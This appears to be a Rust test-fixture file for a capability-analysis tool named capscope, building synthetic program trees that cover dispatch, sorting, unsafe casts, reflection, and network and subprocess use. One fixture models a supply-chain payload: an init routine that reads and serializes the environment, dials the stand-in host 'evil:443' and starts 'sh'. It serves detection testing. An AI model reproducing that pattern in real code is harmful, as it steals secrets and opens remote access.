//! Shared fixtures: small synthetic program bundles exercising the analysis
//! end to end.

#![allow(dead_code)]

use capscope::frontend::ProgramSources;
use capscope::ir::{IrFunction, IrInstr, IrLocal, IrProgram, ValueId};
use capscope::syntax::{
    BasicKind, Block, Callee, Expr, ExprKind, FuncDecl, Method, Package, SourceFile, Stmt,
    TypeDef, TypeId, TypeKind, TypeTable, REFLECT_VALUE_TYPE,
};
use capscope::types::Site;

pub fn ident(name: &str) -> Expr {
    Expr {
        kind: ExprKind::Ident {
            name: name.to_string(),
            package: None,
            resolved: None,
        },
        ty: None,
    }
}

pub fn typed_ident(name: &str, ty: TypeId) -> Expr {
    Expr {
        ty: Some(ty),
        ..ident(name)
    }
}

pub fn resolved_ident(name: &str, resolved: &str) -> Expr {
    Expr {
        kind: ExprKind::Ident {
            name: name.to_string(),
            package: None,
            resolved: Some(resolved.to_string()),
        },
        ty: None,
    }
}

/// A package alias identifier, e.g. `os` referring to import path `os`.
pub fn pkg_ident(path: &str) -> Expr {
    Expr {
        kind: ExprKind::Ident {
            name: path.rsplit('/').next().unwrap_or(path).to_string(),
            package: Some(path.to_string()),
            resolved: None,
        },
        ty: None,
    }
}

pub fn selector(base: Expr, name: &str) -> Expr {
    Expr {
        kind: ExprKind::Selector {
            base: Box::new(base),
            name: name.to_string(),
            resolved: None,
        },
        ty: None,
    }
}

pub fn call(callee: Expr, args: Vec<Expr>) -> Expr {
    Expr {
        kind: ExprKind::Call {
            callee: Callee::Expr(Box::new(callee)),
            args,
            site: None,
        },
        ty: None,
    }
}

pub fn call_at(callee: Expr, args: Vec<Expr>, file: &str, line: u32) -> Expr {
    Expr {
        kind: ExprKind::Call {
            callee: Callee::Expr(Box::new(callee)),
            args,
            site: Some(Site {
                filename: file.to_string(),
                line,
                column: 1,
            }),
        },
        ty: None,
    }
}

/// `path.func(args)` through a package alias.
pub fn pkg_call(path: &str, func: &str, args: Vec<Expr>) -> Expr {
    call(selector(pkg_ident(path), func), args)
}

pub fn call_stmt(e: Expr) -> Stmt {
    Stmt::Expr(e)
}

pub fn func(name: &str, stmts: Vec<Stmt>) -> FuncDecl {
    FuncDecl {
        name: name.to_string(),
        body: Block { stmts },
    }
}

pub fn package(path: &str, name: &str, functions: Vec<FuncDecl>, var_inits: Vec<Expr>) -> Package {
    Package {
        path: path.to_string(),
        name: name.to_string(),
        files: vec![SourceFile {
            name: format!("{name}.x"),
            functions,
            var_inits,
        }],
        module: None,
        ignored_files: vec![],
    }
}

pub fn named_type(
    types: &mut TypeTable,
    name: &str,
    underlying: TypeId,
    methods: &[(&str, &str)],
) -> TypeId {
    types.add(TypeDef {
        name: Some(name.to_string()),
        kind: TypeKind::Named { underlying },
        methods: methods
            .iter()
            .map(|(m, f)| Method {
                name: m.to_string(),
                func: f.to_string(),
            })
            .collect(),
    })
}

pub fn interface_type(types: &mut TypeTable, name: &str, methods: &[&str]) -> TypeId {
    types.add(TypeDef {
        name: Some(name.to_string()),
        kind: TypeKind::Interface {
            methods: methods.iter().map(|m| m.to_string()).collect(),
        },
        methods: vec![],
    })
}

pub fn pointer_type(types: &mut TypeTable, elem: TypeId) -> TypeId {
    types.add(TypeDef {
        name: None,
        kind: TypeKind::Pointer { elem },
        methods: vec![],
    })
}

// ---------------------------------------------------------------------------
// Scenario bundles
// ---------------------------------------------------------------------------

/// An init-only supply-chain payload: the package initializer reads the
/// environment, serializes it, opens a network connection, and spawns a
/// subprocess.
pub fn payload_sources() -> ProgramSources {
    let mut types = TypeTable::new();
    let int = types.ensure_basic(BasicKind::Int);
    let cmd = named_type(
        &mut types,
        "os/exec.Cmd",
        int,
        &[("Start", "(*os/exec.Cmd).Start")],
    );
    let cmd_ptr = pointer_type(&mut types, cmd);

    let exec_pkg = package(
        "os/exec",
        "exec",
        vec![func(
            "os/exec.Command",
            vec![call_stmt(call_at(
                selector(pkg_ident("os/exec"), "LookPath"),
                vec![ident("name")],
                "exec.x",
                22,
            ))],
        )],
        vec![],
    );

    let payload_pkg = package(
        "example.com/payload",
        "payload",
        vec![],
        vec![
            pkg_call("os", "Getenv", vec![str_lit("HOME")]),
            pkg_call(
                "encoding/json",
                "Marshal",
                vec![pkg_call("os", "Environ", vec![])],
            ),
            pkg_call("os", "Setenv", vec![str_lit("MARKER"), str_lit("1")]),
            pkg_call("net", "Dial", vec![str_lit("tcp"), str_lit("evil:443")]),
            pkg_call("os/exec", "Command", vec![str_lit("sh")]),
            call(selector(typed_ident("cmd", cmd_ptr), "Start"), vec![]),
            pkg_call("os", "Getwd", vec![]),
        ],
    );

    ProgramSources {
        types,
        packages: vec![payload_pkg, exec_pkg],
        roots: vec!["example.com/payload".to_string()],
        ..Default::default()
    }
}

/// Interface dispatch: two implementations of a one-method interface; one
/// reads the process id, the other returns a constant. One caller uses a
/// variable of the harmless concrete type, another dispatches through the
/// interface.
pub fn dispatch_sources() -> ProgramSources {
    let mut types = TypeTable::new();
    let int = types.ensure_basic(BasicKind::Int);
    let sayer = interface_type(&mut types, "example.com/app.Sayer", &["Say"]);
    let _a = named_type(
        &mut types,
        "example.com/app.A",
        int,
        &[("Say", "(example.com/app.A).Say")],
    );
    let b = named_type(
        &mut types,
        "example.com/app.B",
        int,
        &[("Say", "(example.com/app.B).Say")],
    );

    let app = package(
        "example.com/app",
        "app",
        vec![
            func(
                "(example.com/app.A).Say",
                vec![call_stmt(pkg_call("os", "Getpid", vec![]))],
            ),
            func("(example.com/app.B).Say", vec![]),
            func(
                "example.com/app.UseB",
                vec![call_stmt(call(
                    selector(typed_ident("b", b), "Say"),
                    vec![],
                ))],
            ),
            func(
                "example.com/app.UseAny",
                vec![call_stmt(call(
                    selector(typed_ident("s", sayer), "Say"),
                    vec![],
                ))],
            ),
        ],
        vec![],
    );

    ProgramSources {
        types,
        packages: vec![app],
        roots: vec!["example.com/app".to_string()],
        ..Default::default()
    }
}

/// Higher-order sort: a slice type whose `Less` reads the process id, sorted
/// directly (rewritable) and through a function value (not rewritable).
pub fn sort_sources() -> ProgramSources {
    let mut types = TypeTable::new();
    let int = types.ensure_basic(BasicKind::Int);
    let records = named_type(
        &mut types,
        "example.com/app.Records",
        int,
        &[
            ("Len", "(example.com/app.Records).Len"),
            ("Less", "(example.com/app.Records).Less"),
            ("Swap", "(example.com/app.Records).Swap"),
        ],
    );

    let app = package(
        "example.com/app",
        "app",
        vec![
            func(
                "(example.com/app.Records).Less",
                vec![call_stmt(pkg_call("os", "Getpid", vec![]))],
            ),
            func("(example.com/app.Records).Swap", vec![]),
            func("(example.com/app.Records).Len", vec![]),
            func(
                "example.com/app.SortRecords",
                vec![call_stmt(call_at(
                    selector(pkg_ident("sort"), "Sort"),
                    vec![typed_ident("rs", records)],
                    "app.x",
                    10,
                ))],
            ),
            func(
                "example.com/app.SortIndirect",
                vec![call_stmt(call(
                    resolved_ident("doSort", "sort.Sort"),
                    vec![typed_ident("rs", records)],
                ))],
            ),
        ],
        vec![],
    );

    ProgramSources {
        types,
        packages: vec![app],
        roots: vec!["example.com/app".to_string()],
        ..Default::default()
    }
}

/// Unsafe pointer conversions: one to a typed pointer, one to the machine
/// word integer.
pub fn unsafe_sources() -> ProgramSources {
    let mut types = TypeTable::new();
    let int = types.ensure_basic(BasicKind::Int);
    let raw = types.ensure_basic(BasicKind::RawPointer);
    let word = types.ensure_basic(BasicKind::Uintptr);
    let int_ptr = pointer_type(&mut types, int);

    let conversion = |target: TypeId, arg_ty: TypeId| Expr {
        kind: ExprKind::Call {
            callee: Callee::Type(target),
            args: vec![typed_ident("p", arg_ty)],
            site: None,
        },
        ty: Some(target),
    };

    let app = package(
        "example.com/app",
        "app",
        vec![
            func(
                "example.com/app.Cast",
                vec![call_stmt(conversion(int_ptr, raw))],
            ),
            func(
                "example.com/app.ToWord",
                vec![call_stmt(conversion(word, raw))],
            ),
        ],
        vec![],
    );

    ProgramSources {
        types,
        packages: vec![app],
        roots: vec!["example.com/app".to_string()],
        ..Default::default()
    }
}

/// Reflection-value aliasing: one function stores a reflection value through
/// a package-scope pointer, one only copies into a local.
pub fn reflect_sources() -> ProgramSources {
    let mut types = TypeTable::new();
    let int = types.ensure_basic(BasicKind::Int);
    let value = named_type(&mut types, REFLECT_VALUE_TYPE, int, &[]);

    let app = package(
        "example.com/app",
        "app",
        vec![
            func("example.com/app.LeakValue", vec![]),
            func("example.com/app.LocalCopy", vec![]),
        ],
        vec![],
    );

    let ir = IrProgram {
        functions: vec![
            IrFunction {
                name: "example.com/app.LeakValue".to_string(),
                locals: vec![],
                instrs: vec![IrInstr::Store {
                    dest: ValueId(9),
                    stored: value,
                }],
            },
            IrFunction {
                name: "example.com/app.LocalCopy".to_string(),
                locals: vec![IrLocal {
                    value: ValueId(0),
                    escapes: false,
                }],
                instrs: vec![IrInstr::Store {
                    dest: ValueId(0),
                    stored: value,
                }],
            },
        ],
    };

    ProgramSources {
        types,
        packages: vec![app],
        ir,
        roots: vec!["example.com/app".to_string()],
        ..Default::default()
    }
}

/// A library package whose exported function dials the network.
pub fn network_sources() -> ProgramSources {
    let app = package(
        "example.com/pkga",
        "pkga",
        vec![func(
            "example.com/pkga.Fetch",
            vec![call_stmt(pkg_call("net", "Dial", vec![]))],
        )],
        vec![],
    );
    ProgramSources {
        packages: vec![app],
        roots: vec!["example.com/pkga".to_string()],
        ..Default::default()
    }
}

/// `network_sources` plus a second package that starts a subprocess.
pub fn network_and_exec_sources() -> ProgramSources {
    let mut sources = network_sources();
    sources.packages.push(package(
        "example.com/pkgb",
        "pkgb",
        vec![func(
            "example.com/pkgb.Launch",
            vec![call_stmt(call(
                resolved_ident("start", "(*os/exec.Cmd).Start"),
                vec![],
            ))],
        )],
        vec![],
    ));
    sources.roots.push("example.com/pkgb".to_string());
    sources
}

fn str_lit(s: &str) -> Expr {
    Expr {
        kind: ExprKind::StrLit(s.to_string()),
        ty: None,
    }
}

/// Run the full pipeline over in-memory sources with the given classifier.
pub fn analyze_sources(
    mut sources: ProgramSources,
    classifier: capscope::Classifier,
) -> capscope::AnalysisReport {
    use capscope::frontend::bundle::build_program;
    use std::collections::BTreeSet;

    capscope::rewrite::rewrite_sources(&mut sources);
    let built = build_program(&sources).expect("build_program");
    let scan = capscope::scanner::scan(&sources, &built.graph);
    let labels = capscope::analyzer::assign_labels(&built.graph, &classifier, &scan);
    let queried: BTreeSet<String> = sources.roots.iter().cloned().collect();
    let findings = capscope::analyzer::get_capability_info(
        &built.graph,
        &labels,
        &queried,
        &classifier,
        &built.package_names,
    );
    capscope::AnalysisReport::new(findings, vec![], vec![])
}
